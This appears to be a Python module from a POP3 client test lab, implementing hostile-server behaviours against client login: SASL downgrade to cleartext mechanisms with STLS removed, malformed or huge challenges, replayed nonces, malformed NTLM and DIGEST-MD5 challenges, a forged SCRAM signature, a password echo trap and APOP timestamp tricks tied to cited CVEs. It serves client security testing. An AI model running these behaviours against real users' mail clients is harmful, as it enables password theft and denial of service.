"""Attacks on how a client logs in: by AUTH (RFC 5034) and by APOP (RFC 1939 section 7)."""

from base64 import b64encode
from collections.abc import Callable, Mapping
from typing import Annotated, Literal

from pop3lab.core.command import CommandSpec
from pop3lab.core.errors import NotUnderstood
from pop3lab.core.hooks import Hooks
from pop3lab.core.reply import Reply, challenge, err
from pop3lab.core.request import GREETING, Authenticated, Request
from pop3lab.core.state import SessionState
from pop3lab.effects.capabilities import (
    CapaLines,
    capa_lines,
    hide_capabilities,
    only_mechanisms,
    show_capability,
)
from pop3lab.effects.commands import (
    CallNext,
    TableHook,
    compose,
    with_overrides,
    without_commands,
    wrap,
)
from pop3lab.effects.hooks import CommandHook, ReplyHook
from pop3lab.effects.logins import SaslOutcome, wrap_sasl
from pop3lab.effects.mechanisms import (
    challenge_of,
    challenge_then_refuse,
    channel_replaced,
    decoded_challenge,
    mechanism_of,
    offer_mechanisms,
    type_2,
)
from pop3lab.rules.behaviour import Layer
from pop3lab.rules.declaration import BehaviourDecorator
from pop3lab.rules.session_hooks import LateEffect
from pop3lab.rules.values import Count

attack = BehaviourDecorator("attack", category="login")

_CHALLENGE = "what a challenge holds"
_STRONG = ("SCRAM-SHA-256", "SCRAM-SHA-1", "CRAM-MD5")
_WEAK = ("PLAIN", "LOGIN")


class _Downgrade(CommandHook):
    """Offers only weak mechanisms once a client has tried a strong one, in whatever session."""

    def __init__(self) -> None:
        self._tried: set[str] = set()  # by all sessions
        table = compose(without_commands("STLS"), wrap(self._auth, "AUTH"))
        super().__init__(table, capa_lines(self._lines), "CAPA")

    def _auth(
        self, session: SessionState, request: Request, call_next: CallNext
    ) -> Reply | Authenticated:
        name = mechanism_of(request)[0]
        if name not in _STRONG:
            return call_next(session, request)
        self._tried.add(name)
        return err("authentication failed", "AUTH")

    def _lines(self, session: SessionState, lines: CapaLines) -> CapaLines:
        if self._tried:
            return only_mechanisms(show_capability(lines, b"USER"), _WEAK)
        return only_mechanisms(hide_capabilities(lines, ["USER"]), _STRONG)


@attack(
    "offers only strong mechanisms, makes them fail, then offers only weak ones; no TLS",
    source="somebody in between; curl's tests 879 to 881 (A)",
    bugs="sends the password in cleartext where it must not",
    aspect="what SASL lists",
    layer=Layer.FIRST,
    against=("auth-mech-broken", "scram-plus-end-point"),
)
def sasl_downgrade() -> Hooks:
    return _Downgrade()


def _challenges(line: bytes) -> Hooks:
    """Return hooks that replace each challenge by this line."""

    def say(session: SessionState, request: Request, reply: Reply) -> Reply:
        return reply if challenge_of(reply) is None else challenge(line)

    return ReplyHook(say, "AUTH")


_Bad = Literal["padding", "odd", "letters", "inner", "8-bit"]
_BAD: dict[_Bad, bytes] = {
    "padding": b"====",
    "odd": b"YWJjZ",
    "letters": b"not base64!",
    "inner": b"YW==JjZA==",
    "8-bit": b"\xe9\xff\x80",
}


@attack(
    "sends challenges that are not valid base64",
    source="an attacker's server; MailKit#268 (B)",
    bugs="raises an exception; leaks memory in its next line (fetchmail CVE-2012-3482)",
    aspect=(_CHALLENGE, "how a challenge looks"),
)
def sasl_bad_base64(
    kind: Annotated[_Bad, "the mistake in the base64"] = "padding",
) -> Hooks:
    return _challenges(b"+ " + _BAD[kind] + b"\r\n")


@attack(
    "sends huge challenges",
    source="an attacker's server (D)",
    bugs="uses memory without limit",
    aspect=(_CHALLENGE, "how a challenge looks"),
)
def sasl_huge_challenge(
    octets: Annotated[Count, "length before base64"] = 10_000_000,
) -> Hooks:
    return _challenges(b"+ " + b64encode(bytes(octets)) + b"\r\n")


class _Static(LateEffect):
    """Repeats the values that should be new in each session."""

    def __init__(self, challenge: str, nonce: str) -> None:
        self._challenge = challenge
        self._nonce = nonce

    def commands(self, table: Mapping[str, CommandSpec]) -> Mapping[str, CommandSpec]:
        return with_overrides(table, {"AUTH": self._auth})

    def _auth(
        self, session: SessionState, request: Request, call_next: CallNext
    ) -> Reply | Authenticated:
        if mechanism_of(request)[0].removesuffix("-PLUS") not in _STRONG:
            return call_next(session, request)
        channel = session.channel._replace(challenge=self._challenge, nonce=self._nonce)
        with channel_replaced(session, channel):
            answer = call_next(session, request)
        if isinstance(answer, Reply) and challenge_of(answer):
            self.claim()
        wrap_sasl(session, self._step)
        return answer

    def _step(self, line: bytes, inner: Callable[[bytes], SaslOutcome]) -> SaslOutcome:
        """SCRAM sends the nonce in its first challenge that is not empty."""
        outcome = inner(line)
        if isinstance(outcome, bytes):
            self.claim()
        return outcome


@attack(
    "repeats CRAM-MD5's challenge and SCRAM's server nonce in each session; logins still succeed",
    source="somebody in between, who has seen a session: a weakness of the protocol (RFC 2195)",
    bugs="a response seen once logs in forever",
    aspect=_CHALLENGE,
    against=("sasl-downgrade", "auth-echo-trap"),
)
def sasl_static_challenge(
    challenge: Annotated[
        str, "the challenge of CRAM-MD5"
    ] = "<1896.697170952@postoffice.example.net>",
    nonce: Annotated[str, "the server nonce of SCRAM"] = "3rfcNHYJY1ZVvWVs7j",
) -> Hooks:
    return _Static(challenge, nonce)


@attack(
    "offers NTLM with a challenge whose target name lies beyond the end of the message",
    source="an attacker's server; fetchmail CVE-2012-3482, Thunderbird CVE-2026-113868 (C)",
    bugs="leaks memory in its next line",
    aspect="the challenge of NTLM",
)
def ntlm_type2_offsets(
    length: Annotated[Count, "length of the name according to the message"] = 0xFFFF,
    offset: Annotated[Count, "offset of the name according to the message"] = 0x7FFFFFFF,
) -> Hooks:
    return offer_mechanisms({"NTLM": challenge_then_refuse(b"", type_2(b"LAB", (length, offset)))})


@attack(
    "offers DIGEST-MD5 with an overlong realm or nonce, sends a wrong rspauth, then refuses",
    source="an attacker's server; curl CVE-2013-0249 (C)",
    bugs="overflows its stack; continues after a wrong rspauth",
    aspect="the challenge of DIGEST-MD5",
)
def digest_md5_long_realm(
    octets: Annotated[Count, "length of the realm or nonce"] = 2000,
    kind: Annotated[Literal["realm", "nonce"], "the overlong value"] = "realm",
) -> Hooks:
    long = "x" * octets
    realm, nonce = ("lab", long) if kind == "nonce" else (long, "OA6MG9tEQGm2hh")
    first = f'realm="{realm}",nonce="{nonce}",qop="auth",charset=utf-8,algorithm=md5-sess'
    proof = b"rspauth=" + b"0" * 32
    return offer_mechanisms({"DIGEST-MD5": challenge_then_refuse(first.encode("ascii"), proof)})


@attack(
    "completes SCRAM with a wrong server signature, or asks for an absurd iteration count",
    source="an attacker's server (D)",
    bugs="takes it for the right server, or computes for hours",
)
def scram_bad_final(
    kind: Annotated[Literal["signature", "iterations"], "the wrong value"] = "signature",
    iterations: Annotated[Count, "the iteration count for kind=iterations"] = 2**31,
) -> Hooks:
    def changed(message: bytes) -> bytes:
        if kind == "signature" and message.startswith(b"v="):
            return b"v=" + b64encode(bytes(32))
        if kind == "iterations" and message.startswith(b"r="):
            return message.rpartition(b",i=")[0] + b",i=%d" % iterations
        return message

    def say(session: SessionState, request: Request, reply: Reply) -> Reply:
        message = decoded_challenge(reply)
        if message is None:
            return reply
        return challenge(b"+ " + b64encode(changed(message)) + b"\r\n")

    return ReplyHook(say, "AUTH")


class _Echo:
    """Asks for the same response again until the client cancels."""

    def step(self, line: bytes) -> bytes:
        if line == b"*":
            raise NotUnderstood("cancelled")
        return b"+ \r\n"


@attack(
    "asks for the password again and again, by AUTH and after PASS",
    source="an attacker's server (D)",
    bugs="sends the password each time",
    layer=Layer.FIRST,
    takes=("login",),
)
def auth_echo_trap() -> Hooks:
    def again(
        session: SessionState, request: Request, call_next: CallNext
    ) -> Reply | Authenticated:
        trap = _Echo()
        return session.continue_sasl(trap, trap.step(b""))

    return TableHook(wrap(again, "AUTH", "PASS"))


# Timestamps that make APOP betray the password.

_STAMP = "the timestamp"
_BLOCK = 64  # octets that MD5 processes at once


def _with_stamp(stamp_of: Callable[[SessionState], str]) -> Hooks:
    """Return hooks that change the timestamp, in the greeting and for APOP's digest."""

    def say(session: SessionState, request: Request, reply: Reply) -> Reply:
        own = session.timestamp
        if not own or own not in reply.text:
            return reply
        session.timestamp = stamp_of(session)
        return reply._replace(text=reply.text.replace(own, session.timestamp))

    return ReplyHook(say, GREETING.verb)


def _inner(session: SessionState) -> str:
    return session.timestamp[1:-1]


def _padded(session: SessionState) -> str:
    """Pad the timestamp so that one octet of the password fills a block of MD5."""
    name, at, host = _inner(session).partition("@")
    filler = "x" * (_BLOCK - 1 - len(name + at + host) - len("<>"))
    return f"<{name}{filler}{at}{host}>"


_Form = Literal["8-bit", "control", "nul", "no-at", "two", "empty", "space", "block"]
_FORMS: dict[_Form, Callable[[SessionState], str]] = {
    "8-bit": lambda session: f"<\xa7\xe9\xff{_inner(session)}>",
    "control": lambda session: f"<\x01\x1b\x7f{_inner(session)}>",
    "nul": lambda session: f"<{_inner(session)}\0>",
    "no-at": lambda session: f"<{_inner(session).partition('@')[0]}>",
    "two": lambda session: f"<<{_inner(session)}>",
    "empty": lambda session: "<>",
    "space": lambda session: f"<{_inner(session).replace('@', ' @ ')}>",
    "block": _padded,
}


@attack(
    "greets with a timestamp that is not an RFC 822 msg-id, and accepts its APOP digest",
    source="somebody in between; CVE-2007-1558 (C)",
    bugs="Thunderbird, Evolution, mutt, fetchmail before 6.3.8: the password leaks",
    aspect=_STAMP,
    needs=("timestamp",),
)
def apop_nonrfc_stamp(
    kind: Annotated[
        _Form,
        "the mistake; block: 63 octets, so that one octet of the password fills a block of MD5",
    ] = "8-bit",
) -> Hooks:
    return _with_stamp(_FORMS[kind])


@attack(
    "greets with the same timestamp in each session",
    source="somebody in between: a weakness of the protocol",
    bugs="a digest seen once logs in forever, or is looked up",
    aspect=_STAMP,
    needs=("timestamp",),
)
def apop_static_stamp(
    stamp: Annotated[str, "the timestamp with its brackets"] = "<1896.697170952@dbc.mtview.ca.us>",
) -> Hooks:
    return _with_stamp(lambda session: stamp)


@attack(
    "greets with a long row of brackets that are never closed",
    source="an attacker's server; poplib CVE-2018-1060 (C)",
    bugs="poplib's regular expression took time quadratic in their number",
    aspect=_STAMP,
    needs=("timestamp",),
)
def apop_redos(octets: Annotated[Count, "number of brackets"] = 200_000) -> Hooks:
    def say(session: SessionState, request: Request, reply: Reply) -> Reply:
        return reply._replace(text="<" * octets)

    return ReplyHook(say, GREETING.verb)
